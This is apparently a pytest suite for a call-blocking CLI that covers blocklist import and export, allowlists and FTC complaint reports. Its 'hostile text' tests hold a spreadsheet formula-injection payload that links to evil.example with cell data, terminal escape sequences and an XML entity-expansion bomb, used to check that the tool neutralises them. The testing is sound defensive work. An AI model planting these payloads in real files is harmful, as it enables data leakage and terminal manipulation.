"""`export`, `import` and `reports --format` through the CLI: round trips, contacts, protection."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from lookup.blocklists import FORMATS, read_entries
from lookup.cli import app

SAMPLES = Path(__file__).parents[1] / "blocklists" / "data"
READABLE = ["txt", "csv", "json", "vcard", "vcard4", "fritzbox", "ncid", "freepbx", "callblocker", "yacb", "spamblocker"]
PREFIX_FORMATS = {"txt", "csv", "json", "yacb", "spamblocker", "ncid", "callblocker"}


def run(*args: str, input: str | None = None):
    r = CliRunner().invoke(app, list(args), input=input)
    assert "Traceback" not in r.output, r.output
    return r


def listed(kind: str = "block", db: str | None = None) -> set[str]:
    args = ["lists", "--json", "--kind", kind] + (["--db", db] if db else [])
    return {json.loads(line)["pattern"] for line in run(*args).stdout.splitlines()}


def seed() -> None:
    for n in ("+1 876 881 2345", "+44 909 879 0000", "+1 415 555 0199"):
        assert run("block", n, "--reason", "test").exit_code == 0
    assert run("block", "+1202555*").exit_code == 0


@pytest.mark.parametrize("fmt", READABLE)
def test_round_trip_through_files(fmt: str, tmp_path) -> None:
    seed()
    out = tmp_path / f"list.{fmt}"
    r = run("export", "--format", fmt, "-o", str(out))
    assert r.exit_code == 0, r.output
    other = str(tmp_path / "other.db")
    r = run("import", str(out), "--format", fmt, "--db", other)
    assert r.exit_code == 0, r.output
    expected = listed()
    if fmt not in PREFIX_FORMATS:
        expected = {p for p in expected if not p.endswith("*")}
        assert "prefix range" in run("export", "--format", fmt, "-o", str(out)).stderr
    assert listed(db=other) == expected
    assert "0 new" in run("import", str(out), "--format", fmt, "--db", other).stdout


def test_callkit_is_sorted_int64s(tmp_path) -> None:
    seed()
    out = run("export", "-f", "callkit").stdout.split()
    assert out == sorted(out, key=int) and all(x.isdigit() for x in out) and len(out) == 3


def test_contacts_become_the_allowlist() -> None:
    r = run("import", str(SAMPLES / "vcard_spam_contact_many_tel.vcf"), "--format", "contacts_vcard")
    assert r.exit_code == 0 and "allow-list" in r.stdout
    allowed = listed("allow")
    assert allowed and not listed("block")
    number = sorted(allowed)[0]
    [obj] = [json.loads(line) for line in run("lookup", number, "--json", "--offline").stdout.splitlines()]
    assert obj["verdict"] == "allowed"


def test_real_samples_import() -> None:
    assert run("import", str(SAMPLES / "ncidd.blacklist")).exit_code == 0
    assert run("import", str(SAMPLES / "callblocker_blocklist_main.json")).exit_code == 0
    assert len(listed()) > 10


def test_import_never_blocks_own_or_allowlisted_numbers(tmp_path) -> None:
    cfg = tmp_path / "c.toml"
    cfg.write_text('own_numbers = ["+1 415 555 0100"]\n')
    run("allow", "+1 415 555 0101")
    lst = tmp_path / "friend.txt"
    lst.write_text("+14155550100\n+14155550101\n+14155550102\nnot a number\n")
    r = run("import", str(lst), "--config", str(cfg))
    assert r.exit_code == 0
    assert listed() == {"+14155550102"}
    assert "not blocked: 2 number(s)" in r.stderr and "skipped 1 row (line 4: not a phone number" in r.stderr


def test_bad_files_are_one_line_errors(tmp_path) -> None:
    bomb = tmp_path / "bomb.xml"
    bomb.write_text('<?xml version="1.0"?><!DOCTYPE p [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
                    "<phonebooks><phonebook><contact><telephony><number>&b;</number></telephony></contact></phonebook></phonebooks>")
    for args in (["import", str(bomb), "--format", "fritzbox"], ["import", str(tmp_path / "missing.txt")],
                 ["export", "-f", "txt", "--include", "everything"]):
        r = run(*args)
        assert r.exit_code == 2, (args, r.output)
        assert len(r.stderr.strip().splitlines()) == 1
    # an unknown format is a usage error of the option's choices (the registry's enum)
    r = run("import", str(bomb), "--format", "nosuch")
    assert r.exit_code == 2 and "nosuch" in r.stderr and "contacts_vcard" in r.stderr


def test_reports_for_the_ftc() -> None:
    run("report", "+1 415 555 0199", "-c", "robocall", "--note", "car warranty", "--at", "2026-11-20 14:05")
    text = run("reports", "--format", "ftc").stdout
    assert "415" in text and "robocall" in text.lower() and "car warranty" in text
    csv_text = run("reports", "--format", "csv").stdout
    assert csv_text.splitlines()[0] == ("Company_Phone_Number,Created_Date,Violation_Date,Consumer_City,Consumer_State,"
                                        "Consumer_Area_Code,Subject,Recorded_Message_Or_Robocall")
    assert csv_text.splitlines()[1].startswith("4155550199,")


def test_export_reported_and_since() -> None:
    seed()
    run("report", "+1 212 555 0148", "-c", "scam")
    both = run("export", "-f", "txt", "--include", "blocked,reported").stdout.split()
    assert "+12125550148" in both and "+18768812345" in both
    assert run("export", "-f", "txt", "--since", "2999-01-01").stdout.split() == []


FTC_DATA = Path(__file__).parents[1] / "data" / "ftc"


def test_sync_files_then_offline_lookup_and_dataset_export() -> None:
    files = sorted(str(p) for p in FTC_DATA.glob("*.csv"))
    r = run("sync", "ftc", *files)
    assert r.exit_code == 0, r.output
    assert "rows added" in r.stdout and "not the FTC complaint CSV" in r.stderr
    again = run("sync", "ftc", "--file", files[0])
    assert " 0 rows added" in again.stdout
    [obj] = [json.loads(line) for line in run("lookup", "202-555-0143", "--offline", "--json").stdout.splitlines()]
    ftc = next(s for s in obj["sources"] if s["name"] == "ftc_gov")
    assert ftc["status"] == "found" and ftc["reports"] >= 2
    assert any(x["signal"] == "complaints:ftc_gov" and x["weight"] > 0 for x in obj["reasons"])
    out = run("export", "-f", "txt", "--include", "datasets", "--min-complaints", "2", "--days", "3650").stdout.split()
    assert "+12025550143" in out


def test_own_reports_round_trip_through_the_ftc_layout(tmp_path) -> None:
    run("report", "+1 415 555 0177", "-c", "robocall", "--at", "2026-11-20 14:05")
    shared = tmp_path / "our-reports.csv"
    assert run("reports", "--format", "csv", "-o", str(shared)).exit_code == 0
    other = str(tmp_path / "neighbour.db")
    r = run("sync", "ftc", str(shared), "--db", other)
    assert r.exit_code == 0 and "1 row added" in r.stdout
    [obj] = [json.loads(line) for line in run("lookup", "+1 415 555 0177", "--offline", "--json", "--db", other).stdout.splitlines()]
    assert next(s for s in obj["sources"] if s["name"] == "ftc_gov")["status"] == "found"


def test_sync_usage_errors() -> None:
    assert run("sync", "ftc", "/nonexistent.csv").exit_code == 2
    r = run("sync", "fcc", "--since", "last week")
    assert r.exit_code == 2 and "--since: not a date" in r.stderr


# ---------------------------------------------------------------- hostile text (issue 20 items 2, 3)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
CSV_LIKE = [spec.name for spec in FORMATS.values() if spec.writer and spec.media_type == "text/csv"]


@pytest.mark.parametrize("fmt", CSV_LIKE)
def test_a_formula_from_a_friends_list_is_neutralised_on_export(fmt: str, tmp_path) -> None:
    friend = tmp_path / "friend.csv"
    friend.write_text(f'number,description,verdict,score,added_at\n+12025550123,"{FORMULA.replace(chr(34), chr(34) * 2)}",,,\n'
                      "+12025550124,@SUM(A1:A9),,,\n+12025550125,-2+3,,,\n")
    assert run("import", str(friend)).exit_code == 0
    out = tmp_path / f"out.{fmt}"
    assert run("export", "-f", fmt, "-o", str(out)).exit_code == 0
    records = list(csv.reader(out.open(newline="")))[1:]
    numbers = {"+12025550123", "+12025550124", "+12025550125"}
    assert {cell for record in records for cell in record if cell in numbers or "+" + cell in numbers} == (
        numbers if fmt != "spamblocker" else {n[1:] for n in numbers}
    )
    texts = [cell for record in records for cell in record if "HYPERLINK" in cell or "SUM" in cell or "2+3" in cell]
    assert len(texts) == 3 and all(cell.startswith("'") for cell in texts), texts


def test_triage_csv_neutralises_names(tmp_path) -> None:
    log = tmp_path / "calls.xml"
    name = FORMULA.replace('"', "&quot;").replace("&A1", "&amp;A1")
    log.write_text(
        "<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>\n<calls count=\"1\">\n"
        f'<call number="+12025550123" duration="0" date="1709622843000" type="3" presentation="1" contact_name="{name}" />\n'
        "</calls>\n"
    )
    r = run("triage", str(log), "--offline", "--csv")
    assert r.exit_code == 0, r.output
    [row] = list(csv.DictReader(io.StringIO(r.stdout)))
    assert row["number"] == "+12025550123"
    assert row["name"] == "'" + FORMULA and not row["top_reason"].startswith(("=", "+", "-", "@"))


ESCAPES = "\x1b]0;pwned\x07\x1b[2J"


def test_lists_and_reports_never_print_terminal_escapes(tmp_path) -> None:
    assert run("block", "+12025550123", "--reason", f"{ESCAPES}typed").exit_code == 0
    friend = tmp_path / "friend.csv"
    friend.write_text(f"number,description\n2025550124,{ESCAPES}imported\n")
    assert run("import", str(friend), "--format", "freepbx").exit_code == 0
    assert run("report", "+12025550125", "-c", "robocall", "--note", f"{ESCAPES}noted").exit_code == 0
    shown = run("lists").stdout + run("reports").stdout + run("lists", "--json").stdout
    assert "typed" in shown and "imported" in shown and "noted" in shown
    assert "\x1b" not in shown and "\x07" not in shown


# ---------------------------------------------------------------- the allowlist wins (issue 19 item 1)


def test_export_leaves_out_numbers_an_allowed_range_covers() -> None:
    assert run("allow", "+1415555*").exit_code == 0
    assert run("block", "415-555-0199", "--force").exit_code == 0
    r = run("export", "-f", "txt")
    assert r.exit_code == 0 and "+14155550199" not in r.stdout
    assert "left out 1 entry that your allowlist covers" in r.stderr
    assert json.loads(run("lookup", "+14155550199", "--offline", "--json").stdout)["verdict"] == "allowed"


@pytest.mark.parametrize("fmt", ["ncid", "txt", "callblocker", "freepbx"])
def test_a_blocked_range_around_an_allowed_range_is_exported_in_pieces(fmt: str, tmp_path) -> None:
    assert run("allow", "+1415555*").exit_code == 0
    assert run("block", "+1415*").exit_code == 0
    out = tmp_path / f"list.{fmt}"
    r = run("export", "-f", fmt, "-o", str(out))
    assert r.exit_code == 0 and "wrote 1 blocked range without the allowlisted numbers" in r.stderr
    assert "^1?415\n" not in out.read_text() and "^1?415 " not in out.read_text()
    patterns = {entry.pattern for entry in read_entries(out, fmt)} if fmt != "freepbx" else set()
    if fmt == "freepbx":  # no prefixes: the pieces are skipped and counted, never the whole range
        assert "skipped 27 prefix ranges" in r.stderr
        return
    assert "+1415*" not in patterns and len(patterns) == 27
    blocked = [p.rstrip("*") for p in patterns]
    assert not any(b.startswith("+1415555") or "+14155550199".startswith(b) for b in blocked)
    assert any("+14151234567".startswith(b) for b in blocked) and any("+14155560000".startswith(b) for b in blocked)


# ---------------------------------------------------------------- a file that yields nothing (issue 19 item 10)


def test_a_file_that_yields_nothing_is_refused_and_nothing_is_stored(tmp_path) -> None:
    assert run("block", "+12025550100").exit_code == 0
    numbers = tmp_path / "numbers.txt"
    numbers.write_text("+12025550123\n+12025550124\n")
    r = run("import", "--format", "vcard", str(numbers))
    assert r.exit_code == 2 and r.stdout == ""
    [line] = r.stderr.strip().splitlines()
    assert "numbers.txt" in line and "vcard" in line
    assert listed() == {"+12025550100"}
    empty = tmp_path / "empty.json"
    empty.write_text('{"entries": []}')
    r = run("import", str(empty))
    assert r.exit_code == 2 and "empty.json" in r.stderr and "json" in r.stderr


def test_import_never_blocks_a_number_an_allowed_range_covers(tmp_path) -> None:
    assert run("allow", "+1415555*").exit_code == 0
    friend = tmp_path / "friend.txt"
    friend.write_text("+14155550199\n+14165550199\n")
    r = run("import", str(friend))
    assert r.exit_code == 0 and "not blocked: 1 number(s)" in r.stderr
    assert listed() == {"+14165550199"}
